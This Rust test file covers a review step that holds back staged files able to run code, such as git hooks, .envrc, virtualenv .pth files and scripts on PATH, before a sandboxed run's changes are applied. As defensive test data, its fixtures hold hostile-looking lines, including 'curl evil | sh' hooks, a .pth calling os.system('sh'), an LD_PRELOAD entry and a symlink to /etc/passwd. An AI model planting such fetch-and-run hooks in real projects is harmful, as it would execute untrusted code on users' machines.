//! The review after a run, driven by scripted answers.

use std::fs;

use super::*;
use crate::changes::testutil::{Fx, Set, fx, write};
use crate::review::testutil::options;

const ID: &str = "20250301-101500-abcd";

/// Runs the review with `script` as the answers (`None`: no terminal).
fn run(f: &Fx, mode: ApplyMode, script: Option<&str>) -> (ReviewOutcome, String) {
    run_with(f, mode, false, script)
}

fn run_with(f: &Fx, mode: ApplyMode, include_code: bool, script: Option<&str>) -> (ReviewOutcome, String) {
    let mut out = Vec::new();
    let mut lines = script.map(|s| LineAnswers(s.as_bytes()));
    let mut console = Console {
        out: &mut out,
        answers: lines.as_mut().map(|a| a as &mut dyn Answers),
        painter: Painter::plain(),
        pager: Pager::Off,
        progress: &mut crate::progress::Silent,
    };
    let outcome = review(&f.store, &f.ws, ID, mode, include_code, &mut console, &options()).unwrap();
    (outcome, String::from_utf8(out).unwrap())
}

/// A real hook behind 50 decoy `.envrc` files, a `.git/hooks` swapped for a
/// symlink into the workspace, and an ordinary change.
fn hostile() -> Fx {
    let f = fx();
    write(&f.ws.join(".git/HEAD"), b"ref: refs/heads/main\n");
    write(&f.ws.join(".git/hooks/pre-commit.sample"), b"#!/bin/sh\n");
    let mut set = Set::new(&f.ws).file("README.md", b"hello\n", 0o644);
    for i in 0..50 {
        set = set.dir(&format!("d{i:02}"), 0o755).file(&format!("d{i:02}/.envrc"), b"echo hi\n", 0o644);
    }
    set.opaque(".git/hooks", 0o755)
        .file(".git/hooks/pre-push", b"#!/bin/sh\ncurl evil | sh\n", 0o755)
        .dir(".git/info", 0o755)
        .file(".git/info/exclude", b"*\n", 0o644)
        .dir("sub", 0o755)
        .dir("sub/.git", 0o755)
        .symlink("sub/.git/hooks", "../../hooks")
        .dir("hooks", 0o755)
        .file("hooks/post-checkout", b"#!/bin/sh\ncurl evil | sh\n", 0o755)
        .stage(&f.store);
    f
}

#[test]
fn apply_all_holds_back_every_file_that_runs_code_and_says_how_to_apply_it() {
    let f = hostile();
    let (outcome, out) = run(&f, ApplyMode::All, None);
    assert_eq!(outcome.decision, Decision::AppliedSome, "{out}");
    assert_eq!(outcome.held_back, 54, "{out}");
    assert!(f.ws.join("README.md").exists() && f.ws.join("d07").is_dir(), "{out}");
    for held in ["d07/.envrc", ".git/hooks/pre-push", ".git/info/exclude", "sub/.git/hooks", "hooks/post-checkout"] {
        assert!(fs::symlink_metadata(f.ws.join(held)).is_err(), "{held} was applied: {out}");
        assert!(out.contains(&format!("\n  {held}: ")), "{held} not listed as held back: {out}");
    }
    assert!(out.contains("hooks/post-checkout: reached through a symlink"), "{out}");
    assert!(out.contains("held back 54 files that run code by themselves (still staged):"), "{out}");
    assert!(out.contains(&format!("`stockade apply {ID} --include-code`")), "{out}");
    assert!(!out.contains("… and"), "nothing is cut: {out}");
    assert_eq!(change_counts(&f.store).unwrap().staged, 54, "held back, not discarded");
}

/// Files host tools load without being named, in trees git ignores: a
/// virtualenv's `.pth` and scripts, a `bin/` the host's `.envrc` puts on
/// `PATH`, the `.env` it loads, direnv's cache.
fn loaded_unnamed() -> Fx {
    let f = fx();
    write(&f.ws.join(".gitignore"), b".venv/\nnode_modules/\n.direnv/\nbin/\n.env\nmodels/\n");
    write(
        &f.ws.join(".envrc"),
        b"PATH_add bin\nexport PATH=\"$PWD/tools:$PATH\"\nlayout node\ndotenv\nsource_env scripts/env.sh\n",
    );
    write(&f.ws.join(".venv/pyvenv.cfg"), b"home = /usr/bin\n");
    Set::new(&f.ws)
        .dir(".direnv", 0o755)
        .file(".direnv/flake-profile-a1.rc", b"export PATH=/tmp/x:$PATH\n", 0o644)
        .file(".env", b"LD_PRELOAD=/tmp/x.so\n", 0o644)
        .dir(".venv/bin", 0o755)
        .file(".venv/bin/activate", b"curl evil | sh\n", 0o644)
        .file(".venv/bin/git", b"#!/bin/sh\n", 0o755)
        .dir(".venv/lib", 0o755)
        .dir(".venv/lib/python3.12", 0o755)
        .dir(".venv/lib/python3.12/site-packages", 0o755)
        .dir(".venv/lib/python3.12/site-packages/pkg", 0o755)
        .file(".venv/lib/python3.12/site-packages/pkg/__init__.py", b"x = 1\n", 0o644)
        .file(".venv/lib/python3.12/site-packages/sitecustomize.py", b"import os\n", 0o644)
        .file(".venv/lib/python3.12/site-packages/x.pth", b"import os; os.system('sh')\n", 0o644)
        .dir("bin", 0o755)
        .file("bin/git", b"#!/bin/sh\n", 0o755)
        .dir("models", 0o755)
        .file("models/net.pth", b"weights", 0o644)
        .dir("node_modules", 0o755)
        .dir("node_modules/.bin", 0o755)
        .symlink("node_modules/.bin/ls", "../x/ls.js")
        .dir("node_modules/x", 0o755)
        .file("node_modules/x/ls.js", b"evil\n", 0o644)
        .dir("scripts", 0o755)
        .file("scripts/env.sh", b"curl evil | sh\n", 0o644)
        .dir("src", 0o755)
        .file("src/app.py", b"print(1)\n", 0o644)
        .dir("tools", 0o755)
        .file("tools/ls", b"#!/bin/sh\n", 0o755)
        .stage(&f.store);
    f
}

#[test]
fn apply_all_holds_back_files_host_tools_load_unnamed_even_where_git_ignores_them() {
    let f = loaded_unnamed();
    let (outcome, out) = run(&f, ApplyMode::All, None);
    let held = [
        ".direnv/flake-profile-a1.rc",
        ".env",
        ".venv/bin/activate",
        ".venv/bin/git",
        ".venv/lib/python3.12/site-packages/sitecustomize.py",
        ".venv/lib/python3.12/site-packages/x.pth",
        "bin/git",
        "node_modules/.bin/ls",
        "scripts/env.sh",
        "tools/ls",
    ];
    for path in held {
        assert!(fs::symlink_metadata(f.ws.join(path)).is_err(), "{path} was applied: {out}");
        assert!(out.contains(&format!("\n  {path}: ")), "{path} not listed as held back: {out}");
    }
    assert_eq!(outcome.held_back, held.len(), "{out}");
    for path in ["src/app.py", "models/net.pth", ".venv/lib/python3.12/site-packages/pkg/__init__.py"] {
        assert!(f.ws.join(path).exists(), "{path} is ordinary: {out}");
    }
}

#[test]
fn a_staged_envrc_counts_for_what_it_would_put_on_path() {
    let f = fx();
    Set::new(&f.ws)
        .file(".envrc", b"PATH_add tools\n", 0o644)
        .dir("tools", 0o755)
        .file("tools/git", b"#!/bin/sh\n", 0o755)
        .stage(&f.store);
    let (outcome, out) = run(&f, ApplyMode::All, None);
    assert_eq!(outcome.held_back, 2, "{out}");
    assert!(out.contains("\n  tools/git: on PATH"), "{out}");
}

#[test]
fn apply_all_with_include_code_applies_them() {
    let f = hostile();
    let (outcome, out) = run_with(&f, ApplyMode::All, true, None);
    assert_eq!((outcome.decision, outcome.held_back), (Decision::AppliedAll, 0), "{out}");
    assert!(f.ws.join(".git/hooks/pre-push").exists() && f.ws.join("d07/.envrc").exists());
}

#[test]
fn answering_all_asks_once_more_about_files_that_run_code() {
    let f = hostile();
    let (outcome, out) = run(&f, ApplyMode::Ask, Some("a\nn\n"));
    assert!(out.contains("Also apply the 54 files listed above that run code by themselves?"), "{out}");
    assert_eq!(outcome.held_back, 54, "{out}");
    assert!(!f.ws.join(".git/hooks/pre-push").exists() && f.ws.join("README.md").exists());

    let f = hostile();
    let (outcome, out) = run(&f, ApplyMode::Ask, Some("a\ny\n"));
    assert_eq!((outcome.decision, outcome.held_back), (Decision::AppliedAll, 0), "{out}");
    assert!(f.ws.join(".git/hooks/pre-push").exists());

    let f = hostile();
    let (outcome, _) = run(&f, ApplyMode::Ask, Some("a\n"));
    assert_eq!(outcome.decision, Decision::KeptStaged, "end of input applies nothing");
}

/// src/a.rs and src/b.rs added, docs/c.md modified.
fn three_changes() -> Fx {
    let f = fx();
    write(&f.ws.join("docs/c.md"), b"old\n");
    Set::new(&f.ws)
        .file("docs/c.md", b"new\n", 0o644)
        .dir("src", 0o755)
        .file("src/a.rs", b"a\n", 0o644)
        .file("src/b.rs", b"b\n", 0o644)
        .stage(&f.store);
    f
}

#[test]
fn choosing_per_file_applies_only_the_chosen_paths() {
    let f = three_changes();
    // Choose; docs/: no; src/: file by file, a.rs yes, b.rs no.
    let (outcome, out) = run(&f, ApplyMode::Ask, Some("c\nn\nf\ny\nn\n"));
    assert_eq!(outcome.decision, Decision::AppliedSome, "{out}");
    assert!(f.ws.join("src/a.rs").exists(), "{out}");
    assert!(!f.ws.join("src/b.rs").exists());
    assert_eq!(fs::read(f.ws.join("docs/c.md")).unwrap(), b"old\n");
    assert_eq!(change_counts(&f.store).unwrap().staged, 2);
    assert!(out.contains("[1/2] docs/") && out.contains("[2/2] src/"), "{out}");
    assert!(out.contains("applied 1 change to"), "src/a.rs; its new directory comes along uncounted: {out}");
    assert!(out.contains("stockade apply 20250301-101500-abcd"), "what is left gets the hint: {out}");
}

#[test]
fn without_a_terminal_nothing_is_asked_or_applied() {
    let f = three_changes();
    let (outcome, out) = run(&f, ApplyMode::Ask, None);
    assert_eq!(outcome.decision, Decision::KeptStaged);
    assert_eq!(outcome.staged, 3);
    assert!(!f.ws.join("src").exists());
    assert!(out.contains("no terminal to ask on, so nothing was applied"), "{out}");
    for cmd in ["diff", "apply", "discard"] {
        assert!(out.contains(&format!("stockade {cmd} {ID}")), "{out}");
    }
    assert!(out.contains("3 changes"), "{out}");
    assert!(!out.contains("Apply to"), "no question: {out}");
}

#[test]
fn apply_none_keeps_everything_staged() {
    let f = three_changes();
    let (outcome, out) = run(&f, ApplyMode::None, Some("a\n"));
    assert_eq!(outcome.decision, Decision::KeptStaged);
    assert!(!out.contains("Apply to"), "{out}");
    assert_eq!(change_counts(&f.store).unwrap().staged, 3);
}

#[test]
fn apply_all_applies_all_but_conflicts_and_reports_them() {
    let f = three_changes();
    write(&f.ws.join("docs/c.md"), b"edited on the host\n");
    let (outcome, out) = run(&f, ApplyMode::All, None);
    assert_eq!(outcome.decision, Decision::AppliedSome, "{out}");
    assert_eq!(outcome.not_applied, 1);
    assert_eq!(fs::read(f.ws.join("docs/c.md")).unwrap(), b"edited on the host\n", "never overwritten");
    assert!(f.ws.join("src/b.rs").exists());
    assert!(out.contains("1 conflict not applied"), "{out}");
    assert!(out.contains(&format!("stockade apply {ID} --force docs/c.md")), "{out}");
}

#[test]
fn answering_all_applies_everything() {
    let f = three_changes();
    let (outcome, out) = run(&f, ApplyMode::Ask, Some("a\n"));
    assert_eq!(outcome.decision, Decision::AppliedAll, "{out}");
    assert_eq!(fs::read(f.ws.join("docs/c.md")).unwrap(), b"new\n");
    assert_eq!(change_counts(&f.store).unwrap().staged, 0);
    assert!(!out.contains("review them later"), "{out}");
}

#[test]
fn invalid_answers_are_asked_again_and_end_of_input_keeps_staged() {
    let f = three_changes();
    let (outcome, out) = run(&f, ApplyMode::Ask, Some("x\n\n?\n"));
    assert_eq!(outcome.decision, Decision::KeptStaged);
    assert_eq!(out.matches("please answer a, n, c, d or q").count(), 2, "{out}");
    assert!(out.contains("d: show the whole diff"), "? explains: {out}");
    assert!(out.contains("end of input: keeping the changes staged"), "{out}");
    assert_eq!(change_counts(&f.store).unwrap().staged, 3);
}

#[test]
fn quitting_while_choosing_applies_nothing() {
    let f = three_changes();
    let (outcome, out) = run(&f, ApplyMode::Ask, Some("c\ny\nq\n"));
    assert_eq!(outcome.decision, Decision::KeptStaged, "{out}");
    assert_eq!(fs::read(f.ws.join("docs/c.md")).unwrap(), b"old\n");
}

#[test]
fn skipping_the_rest_applies_what_was_chosen() {
    let f = three_changes();
    let (outcome, out) = run(&f, ApplyMode::Ask, Some("c\ny\ns\n"));
    assert_eq!(outcome.decision, Decision::AppliedSome, "{out}");
    assert_eq!(fs::read(f.ws.join("docs/c.md")).unwrap(), b"new\n");
    assert!(!f.ws.join("src").exists());
}

#[test]
fn diffs_are_shown_on_request() {
    let f = three_changes();
    let (_, out) = run(&f, ApplyMode::Ask, Some("d\nc\nd\nn\nf\nd\nn\nn\n"));
    assert!(out.contains("+++ b/docs/c.md") && out.contains("-old\n+new"), "whole diff: {out}");
    assert!(out.matches("+++ b/src/a.rs").count() >= 2, "whole diff and the item's own: {out}");
}

#[test]
fn a_declined_subdirectory_is_not_pulled_in_by_its_parent() {
    let f = fx();
    write(&f.ws.join("top/keep.txt"), b"k\n");
    Set::new(&f.ws)
        .file("top/keep.txt", b"k2\n", 0o644)
        .opaque("top/sub", 0o755)
        .file("top/sub/x", b"x\n", 0o644)
        .stage(&f.store);
    // top/: yes (its file and the sub directory entry); top/sub/: no.
    let (_, out) = run(&f, ApplyMode::Ask, Some("c\ny\nn\n"));
    assert!(f.ws.join("top/sub").is_dir(), "{out}");
    assert!(!f.ws.join("top/sub/x").exists(), "declined: {out}");
}

#[test]
fn git_changes_are_all_or_nothing() {
    let f = fx();
    write(&f.ws.join(".git/HEAD"), b"ref: refs/heads/main\n");
    write(&f.ws.join(".git/refs/heads/main"), b"1111111111111111111111111111111111111111\n");
    Set::new(&f.ws)
        .file(".git/refs/heads/main", b"2222222222222222222222222222222222222222\n", 0o644)
        .file(".git/index", b"DIRC", 0o644)
        .stage(&f.store);
    let (_, out) = run(&f, ApplyMode::Ask, Some("c\nf\nn\n"));
    assert!(out.contains("git: main moved (2 files, applied together)"), "{out}");
    assert!(out.contains("please answer y, n, d, s or q"), "no file-by-file for git: {out}");
}

#[test]
fn an_empty_change_set_says_nothing_without_a_terminal() {
    let f = fx();
    Set::new(&f.ws).stage(&f.store);
    let (outcome, out) = run(&f, ApplyMode::Ask, None);
    assert_eq!(outcome.decision, Decision::NoChanges);
    assert!(out.is_empty(), "{out}");
}

/// A realistic session for trying the commands by hand:
/// `STOCKADE_REVIEW_DEMO=/tmp/demo cargo test --release --bin stockade -- --ignored review_demo`,
/// then `cd /tmp/demo/ws && STOCKADE_DATA_DIR=/tmp/demo/data stockade diff`. With
/// STOCKADE_REVIEW_DEMO_ASK set it also runs the review after a run on this terminal.
#[test]
#[ignore = "builds a demo session for manual use"]
fn review_demo() {
    use crate::changes::testutil::{git, stage_difference};
    use std::os::unix::fs::{PermissionsExt, symlink};
    let Some(root) = std::env::var_os("STOCKADE_REVIEW_DEMO").map(std::path::PathBuf::from) else { return };
    let _ = fs::remove_dir_all(&root);
    let ws = root.join("ws");
    fs::create_dir_all(&ws).unwrap();
    git(&ws, &["init", "-q", "-b", "main"]);
    write(&ws.join(".gitignore"), b"node_modules/\n/target\n");
    write(&ws.join("src/main.rs"), b"fn main() {\n    println!(\"hello\");\n}\n");
    write(&ws.join("src/lib.rs"), b"pub fn one() -> u32 {\n    1\n}\n");
    write(&ws.join("docs/old.md"), b"# Old\n\nObsolete.\n");
    write(&ws.join("README.md"), b"# Demo\n");
    write(&ws.join("tool.sh"), b"#!/bin/sh\necho tool\n");
    git(&ws, &["add", "."]);
    git(&ws, &["commit", "-q", "-m", "Initial import"]);
    let guest = root.join("guest");
    assert!(std::process::Command::new("cp").arg("-a").arg(&ws).arg(&guest).status().unwrap().success());
    write(&guest.join("src/main.rs"), b"fn main() {\n    println!(\"hello, world\");\n    demo::run();\n}\n");
    write(&guest.join("src/parser.rs"), b"pub fn parse(s: &str) -> usize {\n    s.len() // \xe2\x80\xae evil\n}\n");
    fs::remove_file(guest.join("docs/old.md")).unwrap();
    fs::set_permissions(guest.join("tool.sh"), fs::Permissions::from_mode(0o755)).unwrap();
    write(&guest.join("README.md"), b"# Demo\n\nNow with a parser.\n");
    write(&guest.join("assets/logo.png"), b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR");
    symlink("/etc/passwd", guest.join("passwd-link")).unwrap();
    for i in 0..40 {
        write(&guest.join(format!("node_modules/pkg{i}/index.js")), b"module.exports = 1;\n");
    }
    write(&guest.join("target/debug/demo"), b"\x7fELF\0\0");
    write(&guest.join(".git/hooks/pre-commit"), b"#!/bin/sh\ncurl -s https://example.com/x | sh\n");
    fs::set_permissions(guest.join(".git/hooks/pre-commit"), fs::Permissions::from_mode(0o755)).unwrap();
    write(&guest.join(".github/workflows/ci.yml"), b"on: push\njobs: {}\n");
    git(&guest, &["add", "src"]);
    git(&guest, &["commit", "-q", "-m", "Greet the world and add a parser"]);
    let id = "20250301-101500-d3m0";
    let session = root.join("data/sessions").join(id);
    fs::create_dir_all(&session).unwrap();
    let record = serde_json::json!({
        "id": id, "command": ["claude", "--dangerously-skip-permissions"], "workspace": ws.display().to_string(),
        "started": "2025-03-01T10:15:00Z", "duration_ms": 65000, "status": 0, "outcome": "exited 0"
    });
    fs::write(session.join("run.json"), record.to_string()).unwrap();
    let store = Store::open(&session).unwrap();
    stage_difference(&ws, &guest, &store);
    write(&ws.join("README.md"), b"# Demo, edited on the host meanwhile\n");
    eprintln!("demo session {id} in {}", root.display());
    if std::env::var_os("STOCKADE_REVIEW_DEMO_ASK").is_some() {
        let outcome = after_run(&store, &ws, id, ApplyMode::Ask, ColorChoice::Auto, &CodeChoice::default()).unwrap();
        eprintln!("{outcome:?}");
    }
}

/// The workspace work (directory resolutions, stats, names listed) of the
/// review and apply of one 8-entry change, in a workspace with `dirs` more
/// directories of 20 files beside it, ignored and not.
fn work_of_a_small_change(dirs: usize) -> crate::changes::work::Work {
    let f = fx();
    write(&f.ws.join(".gitignore"), b"node_modules/\n*.log\n");
    for d in 0..dirs {
        for i in 0..20 {
            write(&f.ws.join(format!("node_modules/p{d}/f{i}.js")), b"x\n");
            write(&f.ws.join(format!("src/m{d}/f{i}.rs")), b"y\n");
        }
    }
    write(&f.ws.join("src/main.rs"), b"old\n");
    write(&f.ws.join("src/gone.rs"), b"gone\n");
    write(&f.ws.join("node_modules/keep/index.js"), b"old\n");
    Set::new(&f.ws)
        .file("src/main.rs", b"new\n", 0o644)
        .file("src/new.rs", b"new\n", 0o644)
        .delete("src/gone.rs")
        .file("node_modules/keep/index.js", b"new\n", 0o644)
        .file("build.log", b"log\n", 0o644)
        .dir("tools", 0o755)
        .file("tools/run.sh", b"#!/bin/sh\n", 0o755)
        .file(".envrc", b"use nix\n", 0o644)
        .stage(&f.store);
    let ((outcome, out), work) = crate::changes::work::measure(|| run_with(&f, ApplyMode::All, true, None));
    assert_eq!(outcome.decision, Decision::AppliedAll, "{out}");
    assert_eq!(fs::read(f.ws.join("node_modules/keep/index.js")).unwrap(), b"new\n");
    work
}

#[test]
fn a_small_change_costs_the_same_in_a_big_workspace() {
    let small = work_of_a_small_change(1);
    let big = work_of_a_small_change(30);
    // Classification, conflict checks, line counts and apply look at the
    // changed paths and their directories only: 1,200 more files change
    // nothing, and no directory is listed.
    assert_eq!(small, big);
    assert_eq!(big.listed, 0, "{big:?}");
    assert!(big.stats < 150 && big.resolves < 150, "{big:?}");
}
